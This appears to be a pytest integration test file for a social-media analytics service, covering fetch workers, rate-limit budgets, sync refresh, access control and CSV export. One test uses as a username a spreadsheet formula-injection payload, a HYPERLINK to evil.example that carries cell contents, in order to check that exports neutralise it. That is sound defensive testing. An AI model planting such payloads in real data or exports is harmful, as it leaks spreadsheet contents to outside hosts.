"""Analytics' planner and fetch workers over the real stack: accounts connected through OAuth
at the sandbox, their history listed and fetched, the numbers checked against the sandbox's
truth; budgets, 429s, limits that bite on a sandbox of the test's own, two worker sets side by
side, and the refresh API.

The stack's analytics app runs no fetch workers of its own: each test drives a set
(``FetchWorkers.drain``: turns until nothing is due), with a clock of its own where it
needs to move time on."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import uuid
from collections.abc import AsyncIterator, Awaitable, Callable
from datetime import UTC, datetime, timedelta
from typing import Any

import httpx
import pytest
from sqlalchemy import text

from analytics.app import create_app as create_analytics
from analytics.context import AnalyticsContext
from analytics.fetching.fetcher import FetchWorkers
from analytics.syncs import service as syncs
from analytics.syncs.repository import SyncRepository
from analytics.tracking.subscribers import record_connected
from sandbox.settings import SandboxSettings
from socialseed.budgets.rules import Rule
from socialseed.contracts import AccountConnected
from socialseed.db import Database
from socialseed.platforms import Clock, rate_rules
from socialseed.security import Principal
from socialseed.testing import Infra
from tests.conftest import (
    Stack,
    User,
    add_member,
    connect_account,
    make_user,
    own_accounts_database,
    own_accounts_service,
    own_database,
    owner_with_workspace,
)

# Each platform's true like count, read from /_sandbox/truth (the platform's own shape).
LIKES: dict[str, Callable[[dict[str, Any]], int]] = {
    "x": lambda t: t["public_metrics"]["like_count"],
    "youtube": lambda t: int(t["statistics"]["likeCount"]),
    "tiktok": lambda t: t["like_count"],
    "facebook": lambda t: sum(t["post_reactions_by_type_total"].values()),
    "instagram": lambda t: t["insights"]["likes"],
    "linkedin": lambda t: t["totalShareStatistics"]["likeCount"],
}


@pytest.fixture
async def db(infra: Infra) -> AsyncIterator[Database]:
    database = Database(infra.service_url("analytics"), pool_size=4)
    yield database
    await database.dispose()


@pytest.fixture
async def sandbox(stack: Stack) -> AsyncIterator[httpx.AsyncClient]:
    async with httpx.AsyncClient(base_url=stack.sandbox_url, timeout=20) as client:
        yield client


@pytest.fixture
async def frozen(sandbox: httpx.AsyncClient) -> AsyncIterator[None]:
    """The sandbox's time stands still: what was fetched equals the truth read after."""
    (await sandbox.post("/_sandbox/clock/freeze", json={"frozen": True})).raise_for_status()
    yield
    (await sandbox.post("/_sandbox/clock/freeze", json={"frozen": False})).raise_for_status()


WorkerSets = Callable[..., FetchWorkers]


@pytest.fixture
async def workers(stack: Stack) -> AsyncIterator[WorkerSets]:
    """``workers(name, ahead=..., **settings)``: a fetch worker set of its own (database pool,
    vault, providers, in this test's event loop) on the stack's analytics database, with a
    clock ``ahead`` of real time (or ``clock``, one the test moves) and settings overrides."""
    made: list[AnalyticsContext] = []

    def build(
        name: str,
        *,
        ahead: timedelta = timedelta(0),
        clock: Clock | None = None,
        **settings: Any,
    ) -> FetchWorkers:
        app = create_analytics(
            stack.analytics.settings.model_copy(update=settings),
            clock=clock or (lambda: datetime.now(UTC) + ahead),
            background=False,
        )
        ctx: AnalyticsContext = app.state.analytics
        made.append(ctx)
        return FetchWorkers(ctx, name=name)

    yield build
    for ctx in made:
        for client in ctx.runtime.http_clients:
            await client.aclose()
        await ctx.db.dispose()


async def until(probe: Callable[[], Any], what: str, timeout: float = 60) -> Any:
    deadline = asyncio.get_running_loop().time() + timeout
    while (value := await probe()) is None:
        assert asyncio.get_running_loop().time() < deadline, f"timed out waiting for {what}"
        await asyncio.sleep(0.1)
    return value


async def rows(db: Database, sql: str, **params: Any) -> list[Any]:
    async with db.transaction() as session:
        return list((await session.execute(text(sql), params)).mappings())


async def connected(
    api: httpx.AsyncClient, db: Database, user: User, ws: str, platform: str, name: str = ""
) -> list[uuid.UUID]:
    """Connect a fresh sandbox account through OAuth; wait until analytics tracks it."""
    name = name or f"{platform}{uuid.uuid4().hex[:8]}"
    accounts = await connect_account(api, user, ws, platform, name)
    ids = [uuid.UUID(str(a["id"])) for a in accounts]

    async def tracked() -> bool | None:
        found = await rows(
            db, "SELECT id FROM analytics.accounts WHERE id = ANY(:ids) AND tracking", ids=ids
        )
        return True if len(found) == len(ids) else None

    await until(tracked, f"analytics tracking the {platform} account")
    return ids


async def posts_of(db: Database, account_ids: list[uuid.UUID]) -> list[Any]:
    return await rows(
        db,
        "SELECT t.id, t.platform, t.platform_post_id, t.status, t.next_fetch_at, t.lease_owner,"
        " t.gap, t.gap_message,"
        " l.likes, l.impressions, l.reach, l.comments, l.shares, l.fetched_at,"
        " (SELECT count(*) FROM analytics.post_snapshots s WHERE s.tracked_post_id = t.id)"
        " AS snapshots"
        " FROM analytics.tracked_posts t LEFT JOIN analytics.post_latest l"
        " ON l.tracked_post_id = t.id WHERE t.account_id = ANY(:ids) ORDER BY t.published_at",
        ids=account_ids,
    )


async def ingested(
    db: Database,
    account_ids: list[uuid.UUID],
    snapshots: int = 1,
    drain: Callable[[], Awaitable[Any]] | None = None,
    timeout: float = 60,
) -> list[Any]:
    """The accounts' posts once each has ``snapshots`` snapshots (the ingester is a consumer).
    ``drain``: run the fetch workers before each look, as running workers would (work that a
    listing made due after a drain had looked is fetched by the next). A drain takes every
    workspace's due work: late in a session, give it a ``timeout`` to match."""

    async def probe() -> list[Any] | None:
        if drain is not None:
            await drain()
        posts = await posts_of(db, account_ids)
        done = posts and all(  # or the platform said why it has no numbers for it
            p["snapshots"] >= snapshots or p["gap"] for p in posts if p["status"] == "active"
        )
        return posts if done else None

    async def debug() -> str:
        return repr([dict(p) for p in await posts_of(db, account_ids)])

    try:
        result: list[Any] = await until(probe, "the fetched metrics ingested", timeout)
    except AssertionError as exc:
        raise AssertionError(f"{exc}: {await debug()}") from None
    return result


async def truth_likes(sandbox: httpx.AsyncClient, platform: str, post_id: str) -> int:
    answer = await sandbox.get(f"/_sandbox/truth/{platform}/{post_id}")
    answer.raise_for_status()
    return LIKES[platform](answer.json()["metrics"])


async def calls(sandbox: httpx.AsyncClient, platform: str) -> dict[str, Any]:
    stats = (await sandbox.get("/_sandbox/stats")).json()["platforms"].get(platform, {})
    return dict(stats)


PLATFORMS = ["x", "youtube", "tiktok", "facebook", "instagram", "linkedin"]


@pytest.mark.parametrize("platform", PLATFORMS)
async def test_a_connected_account_is_backfilled_and_its_numbers_are_the_truth(
    api: httpx.AsyncClient,
    workers: WorkerSets,
    db: Database,
    sandbox: httpx.AsyncClient,
    frozen: None,
    platform: str,
) -> None:
    owner, ws = await owner_with_workspace(api)
    account_ids = await connected(api, db, owner, ws, platform)

    fetchers = workers(f"backfill-{platform}")
    posts = await ingested(db, account_ids, drain=fetchers.drain)
    assert len(posts) >= 5  # the sandbox seeds each account with a history
    assert {p["platform"] for p in posts} == {platform}
    measured = [p for p in posts if p["gap"] is None]
    assert len(measured) >= 4
    for post in measured:
        assert post["likes"] == await truth_likes(sandbox, platform, post["platform_post_id"])
        if platform == "linkedin":  # a member's posts: the creator analytics, all five numbers
            stats = await sandbox.get(f"/_sandbox/truth/linkedin/{post['platform_post_id']}")
            s = stats.json()["metrics"]["totalShareStatistics"]
            assert (post["impressions"], post["reach"], post["comments"], post["shares"]) == (
                s["impressionCount"],
                s["uniqueImpressionsCount"],
                s["commentCount"],
                s["shareCount"],
            )
    accounts = await rows(
        db,
        "SELECT a.backfilled_at, a.next_sync_at, l.fetched_at FROM analytics.accounts a"
        " LEFT JOIN analytics.account_latest l ON l.account_id = a.id WHERE a.id = ANY(:ids)",
        ids=account_ids,
    )

    async def snapshotted() -> bool | None:
        found = await rows(
            db,
            "SELECT account_id FROM analytics.account_latest WHERE account_id = ANY(:ids)",
            ids=account_ids,
        )
        return True if len(found) == len(account_ids) else None

    await until(snapshotted, "the first account snapshot")
    now = datetime.now(UTC)
    for account in accounts:
        assert account["backfilled_at"] is not None
        assert account["next_sync_at"] > now + timedelta(hours=23)  # daily
    # Next fetches follow the posts' ages: none is due again before an hour from now.
    assert all(p["next_fetch_at"] > now + timedelta(minutes=50) for p in posts)


async def test_a_deleted_post_stops_being_synced(
    api: httpx.AsyncClient, workers: WorkerSets, db: Database, sandbox: httpx.AsyncClient
) -> None:
    owner, ws = await owner_with_workspace(api)
    account_ids = await connected(api, db, owner, ws, "x")
    fetch = workers("deleted")
    first = await ingested(db, account_ids, drain=fetch.drain)
    gone = first[0]
    deleted = await sandbox.delete(f"/_sandbox/posts/x/{gone['platform_post_id']}")
    deleted.raise_for_status()

    sync = await api.post(
        f"/api/v1/analytics/refresh/{account_ids[0]}", headers=owner.headers, json={}
    )
    assert sync.status_code == 202, sync.text

    async def marked() -> list[Any] | None:
        await fetch.drain()  # as running workers would, however long the ingester holds rows
        posts = await posts_of(db, account_ids)
        return (
            posts if {p["status"] for p in posts if p["id"] == gone["id"]} == {"deleted"} else None
        )

    posts = await until(marked, "the deleted post marked")
    await cooled_down(db, ws)
    later = await api.post(
        f"/api/v1/analytics/refresh/{account_ids[0]}", headers=owner.headers, json={}
    )
    assert later.json()["total_posts"] == len(posts) - 1  # the deleted one is not asked for
    after = {p["id"]: p for p in await ingested(db, account_ids, snapshots=3, drain=fetch.drain)}
    assert after[gone["id"]]["snapshots"] == 1  # never fetched again


async def cooled_down(db: Database, ws: str) -> None:
    """The workspace's syncs made before the refresh cooldown (as if it had passed)."""
    async with db.transaction() as session:
        await session.execute(
            text(
                "UPDATE analytics.syncs SET created_at = created_at - interval '1 day'"
                " WHERE workspace_id = :ws"
            ),
            {"ws": ws},
        )


async def test_two_worker_sets_never_fetch_the_same_post_twice(
    api: httpx.AsyncClient,
    workers: WorkerSets,
    db: Database,
    sandbox: httpx.AsyncClient,
    frozen: None,
) -> None:
    owner, ws = await owner_with_workspace(api)
    names = {f"{p}{uuid.uuid4().hex[:8]}": p for p in ("x", "x", "x", "tiktok", "tiktok")}
    account_ids = [
        account
        for name, platform in names.items()
        for account in await connected(api, db, owner, ws, platform, name)
    ]
    one, two = workers("set-one"), workers("set-two")

    await asyncio.gather(*(w.drain() for w in (one, two, one, two)))

    posts = await ingested(db, account_ids, drain=one.drain)
    assert all(p["snapshots"] == 1 for p in posts), [p["snapshots"] for p in posts]
    # One fetch per account (each has fewer posts than a batch), from either set: X's is
    # two calls (private metrics, then public ones for the posts older than 30 days).
    endpoint = {"x": "GET /2/tweets", "tiktok": "POST /v2/video/query/"}
    per_fetch = {"x": 2, "tiktok": 1}
    for name, platform in names.items():
        stats = (await sandbox.get("/_sandbox/stats", params={"account": name})).json()
        made = stats["platforms"][platform]["endpoints"][endpoint[platform]]["calls"]
        assert made == per_fetch[platform], (name, made)


async def test_a_429_storm_on_one_platform_leaves_the_others_on_plan(
    api: httpx.AsyncClient, workers: WorkerSets, db: Database, sandbox: httpx.AsyncClient
) -> None:
    owner, ws = await owner_with_workspace(api)
    tiktok = await connected(api, db, owner, ws, "tiktok")
    x = await connected(api, db, owner, ws, "x")
    storm = await sandbox.post(
        "/_sandbox/faults",
        json={"platform": "tiktok", "endpoint": "*video/query*", "burst_429": 1},
    )
    storm.raise_for_status()
    try:
        await workers("storm").drain()
        assert all(p["snapshots"] == 1 for p in await ingested(db, x))
        held = await posts_of(db, tiktok)
        assert held and all(p["snapshots"] == 0 for p in held)
        [budget] = await rows(
            db, "SELECT blocked_until FROM analytics.budgets WHERE bucket = 'tiktok:client'"
        )
        assert budget["blocked_until"] > datetime.now(UTC)

        # Once the platform's wait is over, TikTok resumes.
        await workers("after-storm", ahead=timedelta(minutes=5)).drain()
        assert all(p["snapshots"] == 1 for p in await ingested(db, tiktok))
    finally:
        await sandbox.delete("/_sandbox/faults")
        async with db.transaction() as session:
            await session.execute(
                text("UPDATE analytics.budgets SET blocked_until = NULL WHERE platform = 'tiktok'")
            )


async def test_the_planner_never_calls_beyond_a_budget(
    api: httpx.AsyncClient,
    stack: Stack,
    workers: WorkerSets,
    db: Database,
    sandbox: httpx.AsyncClient,
) -> None:
    """A budget of 3 units a day for YouTube: the listing (the channel, then its uploads
    page) and the counters take them; the videos.list the posts would need is not made, and
    they wait for the budget's reset."""
    owner, ws = await owner_with_workspace(api)
    rule = Rule(
        bucket=f"youtube:test-{uuid.uuid4().hex[:6]}:{{user}}",
        scope="account",
        limit=3,
        window="calendar",
    )
    tight = {**stack.analytics.settings.budgets, "youtube": [rule]}
    account_ids = await connected(api, db, owner, ws, "youtube")
    [user] = await rows(
        db, "SELECT platform_user_id FROM analytics.accounts WHERE id = :id", id=account_ids[0]
    )
    bucket = rule.bucket.format(user=user["platform_user_id"])
    before = (await calls(sandbox, "youtube")).get("rate_limited", 0)

    await workers("tight", budgets=tight).drain()

    posts = await posts_of(db, account_ids)
    assert posts and all(p["snapshots"] == 0 and p["lease_owner"] == "budget" for p in posts)
    [budget] = await rows(db, "SELECT * FROM analytics.budgets WHERE bucket = :b", b=bucket)
    assert budget["used"] == 3 and budget["blocked_until"] == budget["reset_at"]
    assert (await calls(sandbox, "youtube")).get("rate_limited", 0) == before


# Limits that fetching all of a 200-post history at once would pass on every platform (144
# posts of it within the backfill's 90 days: X 3 lookups, TikTok 17 calls, Facebook 148 and
# Instagram 144 media insights): X's lookups per user and 15 minutes, TikTok's calls per client
# and minute, a Facebook page's calls per hour (Business Use Case, 80001) and an Instagram
# account's media insights per hour (code 613). Analytics reads Meta with page and Instagram
# tokens only: Meta's app and user limits (codes 4 and 17, X-App-Usage) never count its calls.
TIGHT = SandboxSettings(
    history_posts=200,
    facebook_pages_per_user=1,
    x_read_limit_15min=2,
    tiktok_client_limit_per_min=12,
    meta_page_calls_per_hour=120,
    instagram_endpoint_calls_per_hour={
        "GET /{ig-media-id}/insights": 120,
        "GET /{ig-user-id}/insights": 200,
    },
)
# The same limits in the planner's rules where it counts the calls itself (TikTok says nothing
# of its count; Meta's percentages come after a batch, each of whose items is a call). X's rule
# keeps its documented 5,000: the window's true size comes in X's headers.
TIGHT_RULES = {
    "tiktok": TIGHT.tiktok_client_limit_per_min,
    "facebook": TIGHT.meta_page_calls_per_hour,
    "instagram": TIGHT.instagram_endpoint_calls_per_hour["GET /{ig-media-id}/insights"],
}
LIMITED = ("x", "tiktok", "facebook", "instagram")
# The calls the posts' metrics take, batch by batch: X's 100 young tweets, then the other 44
# (young and old: two lookups); TikTok's 20 videos a call; Meta's batches of 50.
METRICS_CALLS = {
    "x": ("GET /2/tweets", 3),
    "tiktok": ("POST /v2/video/query/", 8),
    "facebook": ("POST /batch", 3),
    "instagram": ("POST /batch", 3),
}


async def track_connected(accounts: Database, analytics: Database) -> None:
    """What analytics' tracking consumer makes of accounts' ``account.connected`` events, read
    from the outbox of an accounts instance that publishes nothing."""
    connected = await rows(
        accounts,
        "SELECT payload FROM accounts.outbox WHERE topic = :topic ORDER BY id",
        topic=AccountConnected.topic,
    )
    async with analytics.transaction() as session:
        for row in connected:
            await record_connected(session, AccountConnected.model_validate(row["payload"]))


def fetched_per_platform(posts: list[Any]) -> dict[str, int]:
    return {
        p: sum(1 for q in posts if q["platform"] == p and q["last_fetched_at"]) for p in LIMITED
    }


async def test_the_planner_causes_0_429s_on_a_sandbox_with_real_limits(
    api: httpx.AsyncClient, stack: Stack, infra: Infra, workers: WorkerSets
) -> None:
    """An X, a TikTok, a Facebook and an Instagram account of 200 posts each, on a sandbox
    whose limits (``TIGHT``) a fetcher asking everything at once would pass. The planner makes
    no call the sandbox answers with a rate limit: it fetches what the budgets take (X's 100
    young tweets, after which X's headers say one lookup is left and the other 44 need two;
    nothing of TikTok's posts, the minute went to the listing; one Meta batch of 50 each),
    holds the rest (due, not failed, no call made) and fetches it as the windows end, an hour
    at a time on the sandbox's clock and the workers' alike.

    Accounts, the sandbox and analytics' database are the test's own: its workers see its
    accounts only, and no other test's calls count in the sandbox's windows."""
    accounts_db_url = await own_accounts_database(infra, "socialseed_limits")
    analytics_db_url = await own_database(infra, "analytics", "socialseed_limits_analytics")
    accounts_db = Database(accounts_db_url, pool_size=2)
    analytics_db = Database(analytics_db_url, pool_size=4)
    owner, ws = await owner_with_workspace(api)
    offset = [timedelta(0)]  # how far the sandbox's "now" and ours are ahead of real time

    def clock() -> datetime:
        return datetime.now(UTC) + offset[0]

    with own_accounts_service(
        infra, stack, TIGHT, database_url=accounts_db_url, background=False, clock=clock
    ) as (accounts_url, sandbox_url):
        try:
            async with (
                httpx.AsyncClient(base_url=accounts_url, timeout=20) as client,
                httpx.AsyncClient(base_url=sandbox_url, timeout=20) as sb,
            ):
                for platform in LIMITED:
                    name = f"{platform}_{uuid.uuid4().hex[:6]}"
                    await connect_account(client, owner, ws, platform, name)
                await track_connected(accounts_db, analytics_db)
                fetch = workers(
                    "tight",
                    clock=clock,
                    database_url=analytics_db_url,
                    accounts_url=accounts_url,
                    platforms=stack.analytics.settings.platforms.model_copy(
                        update={"sandbox_url": sandbox_url}
                    ),
                    budgets={
                        platform: [
                            r.model_copy(update={"limit": TIGHT_RULES.get(platform, r.limit)})
                            for r in rules
                        ]
                        for platform, rules in rate_rules("reads").items()
                    },
                    kafka_enabled=False,
                )

                async def drained() -> tuple[dict[str, Any], list[Any]]:
                    await fetch.drain()
                    stats = (await sb.get("/_sandbox/stats")).json()["platforms"]
                    throttled = {p: stats[p]["rate_limited"] for p in LIMITED}
                    assert throttled == dict.fromkeys(LIMITED, 0), stats
                    posts = await rows(
                        analytics_db,
                        "SELECT platform, status, next_fetch_at, last_fetched_at, lease_owner"
                        " FROM analytics.tracked_posts",
                    )
                    return stats, posts

                _, posts = await drained()
                assert fetched_per_platform(posts) == {
                    "x": 100,
                    "tiktok": 0,
                    "facebook": 50,
                    "instagram": 50,
                }
                # The rest is due and held, no worker's: an account's posts leased to ``budget``
                # until its window ends, TikTok's (app budget spent) out of the claims as long.
                waiting = [p for p in posts if p["last_fetched_at"] is None]
                assert {p["platform"] for p in waiting} == set(LIMITED)
                assert all(
                    p["status"] == "active"
                    and p["next_fetch_at"] <= clock()
                    and p["lease_owner"] in ("budget", None)
                    for p in waiting
                ), waiting
                assert all(p["lease_owner"] for p in waiting if p["platform"] != "tiktok")
                [tiktok] = await rows(
                    analytics_db,
                    "SELECT blocked_until FROM analytics.budgets WHERE bucket = :b",
                    b="tiktok:client",
                )
                assert tiktok["blocked_until"] > clock()
                # Said so in the API: a refresh of TikTok waits (not "running") until the
                # budget frees; per account, what waits and until when.
                workspace_id = uuid.UUID(ws)
                principal = Principal(user_id=uuid.uuid4(), roles={workspace_id: "owner"})
                async with analytics_db.transaction() as session:
                    sync = await SyncRepository(session).create_sync(
                        workspace_id,
                        requested_by=principal.user_id,
                        now=clock(),
                        platforms=["tiktok"],
                        limit=10_000,
                    )
                async with analytics_db.transaction() as session:
                    progress = await syncs.sync_progress(session, fetch.ctx, principal, sync.id)
                    status = await syncs.sync_status(session, fetch.ctx, principal, workspace_id)
                assert progress.status == "waiting", progress
                assert progress.resumes_at == tiktok["blocked_until"]
                assert "TikTok's rate limit" in (progress.waiting_reason or "")
                waits = {a.platform: a.waiting for a in status.accounts}
                assert waits["tiktok"] is not None and "app-wide" in waits["tiktok"].reason
                assert waits["tiktok"].until == tiktok["blocked_until"]
                for platform in ("x", "facebook", "instagram"):  # held by their own budgets
                    held = waits[platform]
                    assert held is not None and held.until > clock(), (platform, held)
                    assert "wait for" in held.reason and "rate limit" in held.reason
                [x_budget] = await rows(
                    analytics_db,
                    'SELECT "limit", used FROM analytics.budgets WHERE bucket LIKE :b',
                    b="x:GET /2/tweets:user:%",
                )
                assert (x_budget["limit"], x_budget["used"]) == (TIGHT.x_read_limit_15min, 1)

                for _ in range(6):  # hours (the clock stands still in between: a window each)
                    if all(p["last_fetched_at"] for p in posts):
                        break
                    offset[0] += timedelta(hours=1, minutes=1)
                    advanced = await sb.post("/_sandbox/clock/advance", json={"seconds": 3660})
                    advanced.raise_for_status()
                    stats, posts = await drained()
                assert all(p["last_fetched_at"] for p in posts), fetched_per_platform(posts)
                async with analytics_db.transaction() as session:
                    progress = await syncs.sync_progress(session, fetch.ctx, principal, sync.id)
                    status = await syncs.sync_status(session, fetch.ctx, principal, workspace_id)
                assert progress.status != "waiting" and progress.resumes_at is None
                assert all(a.waiting is None for a in status.accounts), status.accounts
                # Each batch asked once: nothing was refused and asked again.
                made = {p: stats[p]["endpoints"][e]["calls"] for p, (e, _) in METRICS_CALLS.items()}
                assert made == {p: n for p, (_, n) in METRICS_CALLS.items()}
        finally:
            await accounts_db.dispose()
            await analytics_db.dispose()


async def test_a_sync_whose_budget_is_spent_finishes_with_its_posts_rate_limited(
    api: httpx.AsyncClient, stack: Stack, workers: WorkerSets, db: Database
) -> None:
    """A refresh on an account whose daily budget is spent does not stay running until the
    budget's reset: its posts are counted as rate limited (with when they will be fetched),
    and they wait, out of the sync, for the budget to free."""
    owner, ws = await owner_with_workspace(api)
    [account] = await connected(api, db, owner, ws, "youtube")
    await ingested(db, [account], drain=workers("first").drain)
    answer = await api.post(f"/api/v1/analytics/refresh/{account}", headers=owner.headers)
    assert answer.status_code == 202, answer.text
    sync_id, total = answer.json()["sync_id"], answer.json()["total_posts"]
    assert total > 0

    rule = Rule(
        bucket=f"youtube:spent-{uuid.uuid4().hex[:6]}", scope="account", limit=1, window="calendar"
    )
    async with db.transaction() as session:
        await session.execute(
            text(
                'INSERT INTO analytics.budgets (bucket, platform, "limit", used, window_start,'
                " reset_at) VALUES (:b, 'youtube', 1, 1, now(), now() + interval '1 day')"
            ),
            {"b": rule.bucket},
        )
    tight = {**stack.analytics.settings.budgets, "youtube": [rule]}
    await workers("spent", budgets=tight).drain()

    got = await api.get(f"/api/v1/analytics/sync/{sync_id}", headers=owner.headers)
    sync = got.json()
    assert sync["status"] == "partial", sync
    assert (sync["synced"], sync["rate_limited"]) == (0, total)
    assert sync["by_platform"]["youtube"]["rate_limited"] == total
    assert len(sync["errors"]) == total
    assert all("YouTube's rate limit until" in e["message"] for e in sync["errors"])
    posts = await rows(
        db,
        "SELECT lease_owner, sync_id FROM analytics.tracked_posts WHERE account_id = :a",
        a=account,
    )
    assert posts and all(p["lease_owner"] == "budget" and p["sync_id"] is None for p in posts)


async def test_refresh_runs_a_sync_to_completion_with_per_platform_counters(
    api: httpx.AsyncClient, workers: WorkerSets, db: Database
) -> None:
    owner, ws = await owner_with_workspace(api)
    x = await connected(api, db, owner, ws, "x")
    await connected(api, db, owner, ws, "youtube")
    fetch = workers("refresh")
    await ingested(db, x, drain=fetch.drain)

    answer = await api.post(
        "/api/v1/analytics/refresh", json={"workspace_id": ws}, headers=owner.headers
    )
    assert answer.status_code == 202, answer.text
    sync_id, total = answer.json()["sync_id"], answer.json()["total_posts"]
    assert total >= 10
    queued = await api.get(f"/api/v1/analytics/sync/{sync_id}", headers=owner.headers)
    assert queued.json()["status"] == "queued"

    async def finished() -> dict[str, Any] | None:
        await fetch.drain()  # as running workers would, however long the ingester holds rows
        got = await api.get(f"/api/v1/analytics/sync/{sync_id}", headers=owner.headers)
        body: dict[str, Any] = got.json()
        return body if body["status"] in ("completed", "partial", "failed") else None

    sync = await until(finished, "the sync finished")
    assert sync["status"] == "completed"
    assert sync["synced"] == total and sync["failed"] == 0 and sync["rate_limited"] == 0
    assert set(sync["by_platform"]) == {"x", "youtube"}
    assert sum(p["synced"] for p in sync["by_platform"].values()) == total
    assert all(p["synced"] == p["total"] for p in sync["by_platform"].values())

    status = await api.get(
        "/api/v1/analytics/sync-status", params={"workspace_id": ws}, headers=owner.headers
    )
    assert status.status_code == 200, status.text
    body = status.json()
    assert {a["platform"] for a in body["accounts"]} == {"x", "youtube"}
    assert all(a["last_synced_at"] and a["next_sync_at"] for a in body["accounts"])


async def test_a_refresh_of_what_was_just_refreshed_makes_no_new_sync(
    api: httpx.AsyncClient, workers: WorkerSets, db: Database, sandbox: httpx.AsyncClient
) -> None:
    """Each refresh makes posts due and spends platform budgets that every workspace shares:
    one asked again while its sync runs is answered with that sync, and after it, within the
    cooldown, is 429 RefreshTooSoon; nothing more becomes due, no call more is made."""
    owner, ws = await owner_with_workspace(api)
    name = f"x{uuid.uuid4().hex[:8]}"
    [account] = await connected(api, db, owner, ws, "x", name)
    fetch = workers("twice")
    await ingested(db, [account], drain=fetch.drain)
    url = f"/api/v1/analytics/refresh/{account}"

    first, second = await asyncio.gather(
        api.post(url, headers=owner.headers, json={}),
        api.post(url, headers=owner.headers, json={}),
    )
    assert first.status_code == second.status_code == 202, (first.text, second.text)
    assert first.json()["sync_id"] == second.json()["sync_id"]
    assert {first.json()["already_running"], second.json()["already_running"]} == {False, True}
    # The whole workspace's refresh covers the account's too.
    whole = await api.post(
        "/api/v1/analytics/refresh", json={"workspace_id": ws}, headers=owner.headers
    )
    assert whole.status_code == 202, whole.text

    async def finished() -> bool | None:
        await fetch.drain()  # as running workers would, however long the ingester holds rows
        for sync_id in (first.json()["sync_id"], whole.json()["sync_id"]):
            got = await api.get(f"/api/v1/analytics/sync/{sync_id}", headers=owner.headers)
            if got.json()["status"] not in ("completed", "partial", "failed"):
                return None
        return True

    await until(finished, "the syncs finished")
    stats = (await sandbox.get("/_sandbox/stats", params={"account": name})).json()
    tweets = stats["platforms"]["x"]["endpoints"]["GET /2/tweets"]["calls"]

    for again in (
        await api.post(url, headers=owner.headers, json={}),
        await api.post(
            "/api/v1/analytics/refresh", json={"workspace_id": ws}, headers=owner.headers
        ),
        await api.post(
            "/api/v1/analytics/refresh",
            json={"workspace_id": ws, "platforms": ["x"]},
            headers=owner.headers,
        ),
    ):
        assert again.status_code == 429, again.text
        assert again.json()["error"] == "RefreshTooSoon"
        assert 0 < int(again.headers["retry-after"]) <= 300
    due = await rows(
        db,
        "SELECT id FROM analytics.tracked_posts WHERE account_id = :a AND next_fetch_at <= now()",
        a=account,
    )
    assert due == []
    await fetch.drain()
    stats = (await sandbox.get("/_sandbox/stats", params={"account": name})).json()
    assert stats["platforms"]["x"]["endpoints"]["GET /2/tweets"]["calls"] == tweets


async def test_sync_status_shows_no_app_wide_budget(
    api: httpx.AsyncClient, workers: WorkerSets, db: Database
) -> None:
    """App-wide budgets (YouTube's project units, TikTok's client, ...) count every tenant's
    fetches: a workspace sees its own accounts' budgets only."""
    owner, ws = await owner_with_workspace(api)
    x = await connected(api, db, owner, ws, "x")
    youtube = await connected(api, db, owner, ws, "youtube")
    await ingested(db, x + youtube, drain=workers("status").drain)
    [project] = await rows(
        db, "SELECT used FROM analytics.budgets WHERE bucket = 'youtube:project'"
    )
    assert project["used"] > 0  # it is counted; it is just not this workspace's to see

    status = await api.get(
        "/api/v1/analytics/sync-status", params={"workspace_id": ws}, headers=owner.headers
    )
    assert status.status_code == 200, status.text
    budgets = status.json()["budgets"]
    shown = {b["bucket"] for of_platform in budgets.values() for b in of_platform}
    app_wide = {"youtube:project", "tiktok:client", "linkedin:app", "meta:app"}
    assert shown and not shown & app_wide, shown
    assert all(b.startswith("x:GET /2/tweets:user:") for b in shown), shown


async def test_refresh_is_for_editors_and_other_workspaces_are_404(
    api: httpx.AsyncClient, workers: WorkerSets, db: Database
) -> None:
    owner, ws = await owner_with_workspace(api)
    [account] = await connected(api, db, owner, ws, "x")
    viewer = await add_member(api, owner, ws, await make_user(api, name="Vic"), "viewer")
    stranger, other_ws = await owner_with_workspace(api, "Stranger")

    denied = await api.post(
        "/api/v1/analytics/refresh", json={"workspace_id": ws}, headers=viewer.headers
    )
    assert denied.status_code == 403, denied.text
    sync = await api.post(f"/api/v1/analytics/refresh/{account}", headers=owner.headers, json={})
    assert sync.status_code == 202
    sync_id = sync.json()["sync_id"]
    seen = await api.get(f"/api/v1/analytics/sync/{sync_id}", headers=viewer.headers)
    assert seen.status_code == 200

    for answer in (
        await api.get(f"/api/v1/analytics/sync/{sync_id}", headers=stranger.headers),
        await api.post(f"/api/v1/analytics/refresh/{account}", headers=stranger.headers, json={}),
        await api.post(
            "/api/v1/analytics/refresh", json={"workspace_id": ws}, headers=stranger.headers
        ),
        await api.get(
            "/api/v1/analytics/sync-status", params={"workspace_id": ws}, headers=stranger.headers
        ),
        await api.get(f"/api/v1/analytics/sync/{uuid.uuid4()}", headers=owner.headers),
    ):
        assert answer.status_code == 404, answer.text
    assert other_ws != ws


async def test_a_username_that_starts_like_a_formula_is_exported_as_text(
    api: httpx.AsyncClient, workers: WorkerSets, db: Database
) -> None:
    """A platform username is the platform user's to choose: one that a spreadsheet would
    run as a formula reaches the CSV export as text (a leading ``'``), not as a formula."""
    owner, ws = await owner_with_workspace(api)
    name = f'=HYPERLINK("http://evil.example/?{uuid.uuid4().hex[:6]}"&A2,"x")'
    [account] = await connected(api, db, owner, ws, "x", name)
    posts = await ingested(db, [account], drain=workers("formula").drain)
    [stored] = await rows(db, "SELECT username FROM analytics.accounts WHERE id = :a", a=account)
    assert stored["username"] == name  # kept as the platform gave it

    params = {"workspace_id": ws, "format": "csv"}
    exported = await api.get("/api/v1/analytics/export", params=params, headers=owner.headers)
    assert exported.status_code == 200, exported.text
    records = list(csv.DictReader(io.StringIO(exported.text)))
    assert len(records) == sum(p["snapshots"] for p in posts)
    assert {r["username"] for r in records} == {"'" + name}
    assert all(r["views"] == "" or r["views"].isdigit() for r in records)  # numbers as numbers
    # NDJSON is data, not a spreadsheet: the value as it is.
    params["format"] = "json"
    lines = await api.get("/api/v1/analytics/export", params=params, headers=owner.headers)
    assert {json.loads(line)["username"] for line in lines.text.splitlines()} == {name}


async def sandbox_now(sandbox: httpx.AsyncClient) -> datetime:
    return datetime.fromtimestamp((await sandbox.get("/_sandbox/clock")).json()["ts"], UTC)


async def test_a_post_s_growth_curve_is_the_platform_s_truth_at_each_fetch(
    api: httpx.AsyncClient,
    workers: WorkerSets,
    db: Database,
    sandbox: httpx.AsyncClient,
    frozen: None,
) -> None:
    """Fetched three times an hour apart on a moved clock (the sandbox's and the workers'
    together), a post's hourly growth curve holds in each hour what the platform said then;
    the hour after the last fetch is null, not 0."""
    owner, ws = await owner_with_workspace(api)
    [account_id] = await connected(api, db, owner, ws, "x")
